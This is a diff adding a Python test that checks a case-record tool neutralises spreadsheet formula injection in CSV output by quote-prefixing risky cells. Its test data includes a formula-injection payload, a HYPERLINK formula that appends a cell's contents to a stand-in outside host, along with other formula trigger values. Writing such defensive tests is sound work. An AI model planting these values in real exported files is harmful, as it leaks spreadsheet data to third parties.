@@ -87,6 +87,19 @@ def test_impact_and_the_python_api_count_a_non_utf8_line_as_an_error(
     assert errors == [None, "line 2 is not valid UTF-8 at byte 1 (0xff)"]
 
 
+def test_a_csv_output_cell_a_spreadsheet_would_run_is_text(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A case id (or a statute's citation) such as `=HYPERLINK(…)` was written as it is,
+    a live formula once the output opens in a spreadsheet."""
+    ids = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "@SUM(A1)", "-2", "plain"]
+    source = _write(tmp_path, "cases.jsonl", b"".join(
+        json.dumps({"id": i, "date": "2015-03-02"}).encode() + b"\n" for i in ids))
+    rows = _batch(tmp_path, capsys, source, "out.csv")
+    assert [r["case_id"] for r in rows] == ["'" + i for i in ids[:4]] + ["plain"]
+    # the other formats keep the value as it is
+    assert [r["case_id"] for r in _batch(tmp_path, capsys, source, "out.jsonl")] == ids
+
+
 def test_a_byte_order_mark_is_not_part_of_the_first_column(
         tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     source = _write(tmp_path, "cases.csv", b"\xef\xbb\xbfid,date\na,2015-03-02\n")
